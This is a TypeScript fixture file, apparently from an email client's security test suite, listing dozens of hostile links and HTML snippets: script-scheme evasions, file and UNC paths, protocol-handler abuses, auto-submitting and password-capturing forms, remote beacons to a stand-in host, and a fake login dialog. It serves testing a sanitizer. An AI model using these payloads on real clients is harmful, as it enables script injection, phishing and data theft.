/** Addresses: of links, frames, objects, forms, pages to go to, things to fetch, files to open. */

import { FILE, HOST, htmlAttack, htmlAttacks, RUN, RUN_SHORT } from './attack.ts';

const links: Readonly<Record<string, string>> = {
  javascript: `javascript:${RUN}`,
  'javascript in capitals': `JaVaScRiPt:${RUN}`,
  'javascript with a tab': `java\tscript:${RUN_SHORT}`,
  'javascript with a line end': `java\nscript:${RUN_SHORT}`,
  'javascript after controls': `\x01\x02 javascript:${RUN_SHORT}`,
  'javascript in entities':
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'javascript with a name for the colon': `javascript&colon;${RUN_SHORT}`,
  vbscript: 'vbscript:msgbox(1)',
  'data page': `data:text/html,<script>${RUN}</script>`,
  'data page in base64': `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  blob: `blob:http://${HOST}/1234`,
  file: `file://${FILE}`,
  'file of a host': `file://${HOST}/share/x`,
  UNC: `\\\\${HOST}\\share\\x.exe`,
  'UNC with slashes': `//${HOST}/share/x.exe`,
  'our own page': 'mailkeep://app/index.html',
  'another message': 'mailkeep-message://0000000000000000/',
  'a link of ours': '/link/99999',
  chrome: 'chrome://gpu',
  devtools: 'devtools://devtools/bundled/inspector.html',
  'view-source': `view-source:http://${HOST}/`,
  about: 'about:blank',
  filesystem: `filesystem:http://${HOST}/temporary/x`,
  intent: 'intent://scan/#Intent;scheme=zxing;end',
  'search-ms': `search-ms:query=x&crumb=location:\\\\${HOST}`,
  'ms-msdt': 'ms-msdt:/id PCWDiagnostic',
  'ms-word': `ms-word:ofe|u|http://${HOST}/x.docm`,
  smb: `smb://${HOST}/share`,
  ssh: 'ssh://-oProxyCommand=touch',
  telnet: `telnet://${HOST}`,
  ftp: `ftp://${HOST}/x`,
  jar: `jar:http://${HOST}/x.jar!/y.html`,
  tel: 'tel:*%2306%23',
  'mailto that attaches': `mailto:x@${HOST}?attach=${FILE}&attachment=${FILE}`,
  'mailto with a header': `mailto:x@${HOST}%0d%0aBcc:y@${HOST}`,
  'very long': `http://${HOST}/${'a'.repeat(100_000)}`,
  'userinfo as a host': `http://www.mybank.example@${HOST}/`,
  'punycode of another script': 'http://xn--80ak6aa92e.example/',
  'number as a host': 'http://0x7f.1/',
};

const ways: Readonly<Record<string, (address: string) => string>> = {
  link: (address) => `<a href="${address}" target=_blank ping="http://${HOST}/ping">click</a>`,
};

const linkAttacks = Object.entries(links).flatMap(([name, address]) =>
  Object.entries(ways).map(([way, html]) => htmlAttack(`${way} to ${name}`, html(address))),
);

const framed: Readonly<Record<string, string>> = {
  iframe: `<iframe src="$"></iframe>`,
  embed: '<embed src="$">',
  object: '<object data="$"></object>',
  image: '<img src="$">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=$">',
};

const places: Readonly<Record<string, string>> = {
  'a page': `http://${HOST}/page`,
  javascript: `javascript:${RUN_SHORT}`,
  'a data page': `data:text/html,<script>${RUN_SHORT}</script>`,
  'a file': `file://${FILE}`,
  'a share': `//${HOST}/share`,
};

const frameAttacks = Object.entries(framed).flatMap(([way, html]) =>
  Object.entries(places).map(([name, place]) =>
    htmlAttack(`${way} of ${name}`, html.replace('$', place)),
  ),
);

const elements = {
  'base takes links along': `<base href="http://${HOST}/"><a href="x">x</a><img src="y.png">`,
  'base takes windows along': `<base target="_top"><a href="http://${HOST}/">x</a>`,
  srcdoc: `<iframe srcdoc="&lt;script&gt;${RUN_SHORT}&lt;/script&gt;"></iframe>`,
  'srcdoc with a sandbox of its own': `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location='http://${HOST}'</script>"></iframe>`,
  applet: `<applet code=X archive="http://${HOST}/x.jar"></applet>`,
  'object with a class':
    '<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"><param name=movie value=x></object>',
  'object falls back': `<object data=x><img src="http://${HOST}/fallback.png"></object>`,
  frameset: `<frameset><frame src="http://${HOST}/frame"></frameset>`,
  'form that sends itself': `<form action="http://${HOST}/form" id=f><input name=a value=b autofocus onfocus="f.submit()"></form>`,
  'form with a button': `<form action="http://${HOST}/form"><button>Log in</button><input type=image src="http://${HOST}/b.png"></form>`,
  'button with formaction': `<form><button formaction="javascript:${RUN_SHORT}">x</button></form>`,
  'form as get to a file': `<form action="file://${FILE}" method=get><input type=submit></form>`,
  'password field': `<form action="http://${HOST}/pw"><input type=password name=p autocomplete=current-password></form>`,
  'link to a sheet': `<link rel=stylesheet href="http://${HOST}/sheet.css">`,
  preload: `<link rel=preload as=image href="http://${HOST}/preload.png">`,
  prefetch: `<link rel=prefetch href="http://${HOST}/prefetch">`,
  'dns-prefetch': `<link rel=dns-prefetch href="//name.${HOST}">`,
  preconnect: `<link rel=preconnect href="http://${HOST}">`,
  manifest: `<link rel=manifest href="http://${HOST}/manifest.json">`,
  icon: `<link rel=icon href="http://${HOST}/favicon.ico">`,
  'html import': `<link rel=import href="http://${HOST}/import.html">`,
  'link header in meta': `<meta http-equiv=Link content="<http://${HOST}/l>; rel=preload; as=image">`,
  'policy of its own': `<meta http-equiv=Content-Security-Policy content="report-uri http://${HOST}/csp; default-src 'none'">`,
  'cookie in meta': '<meta http-equiv=Set-Cookie content="a=b">',
  'referrer in meta': `<meta name=referrer content=unsafe-url><img src="http://${HOST}/ref.png">`,
  'prefetch control': `<meta http-equiv=x-dns-prefetch-control content=on><a href="http://looked-up.${HOST}/">x</a>`,
  picture: `<picture><source srcset="http://${HOST}/s.png"><img src="http://${HOST}/i.png"></picture>`,
  srcset: `<img srcset="http://${HOST}/1.png 1x, http://${HOST}/2.png 2x">`,
  'lazy picture': `<img loading=lazy src="http://${HOST}/lazy.png">`,
  'lowsrc and dynsrc': `<img lowsrc="http://${HOST}/low.png" dynsrc="http://${HOST}/dyn.avi">`,
  longdesc: `<img longdesc="http://${HOST}/long" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  attributionsrc: `<img attributionsrc="http://${HOST}/attr" src="x">`,
  'video poster': `<video poster="http://${HOST}/poster.png"></video>`,
  'table background': `<table background="http://${HOST}/t.png"><tr background="http://${HOST}/tr.png"><td background="http://${HOST}/td.png">x</table>`,
  'body background': `<body background="http://${HOST}/body.png">x</body>`,
  'cite and ping': `<blockquote cite="http://${HOST}/cite">x</blockquote><a href="#x" ping="http://${HOST}/ping">x</a>`,
  'map with an area': `<img usemap="#m" src="http://${HOST}/m.png"><map name=m><area href="javascript:${RUN}" coords="0,0,900,900" shape=rect></map>`,
  'cid that is a page': `<iframe src="cid:x"></iframe><img src="cid:../../../../etc/passwd">`,
  bgsound: `<bgsound src="http://${HOST}/b.wav">`,
  'layer and ilayer': `<layer src="http://${HOST}/l"></layer><ilayer src="http://${HOST}/il"></ilayer>`,
  'html manifest': `<html manifest="http://${HOST}/cache"><p>x`,
  'xml stylesheet': `<?xml-stylesheet href="http://${HOST}/x.css"?>`,
  'dialog over everything':
    '<dialog open popover=auto style="position:fixed;inset:0">Log in again</dialog>',
};

export const addressAttacks = [
  ...linkAttacks,
  ...frameAttacks,
  ...htmlAttacks('element', elements),
];
